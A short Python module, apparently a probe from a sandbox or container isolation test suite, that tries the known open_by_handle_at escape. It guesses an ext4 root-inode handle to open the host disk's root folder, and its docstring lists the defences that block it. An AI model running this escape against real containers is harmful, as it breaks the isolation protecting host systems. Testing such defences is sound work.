"""Opens the disk's root folder by a guessed handle, from any folder that it may open (a known way out of containers).

stopped by: namespaces, user, privileges, seccomp
needs: root, ext4
perhaps: landlock
"""


def attack():
    # Of type 1 (inode and generation), which is ext4's; inode 2 is its root.
    handle = ctypes.create_string_buffer(struct.pack("Iiii", 8, 1, 2, 0), 136)
    place = os.open(os.path.dirname(os.__file__), os.O_RDONLY)
    return "etc" in os.listdir(syscall("open_by_handle_at", place, handle, os.O_RDONLY | os.O_DIRECTORY))
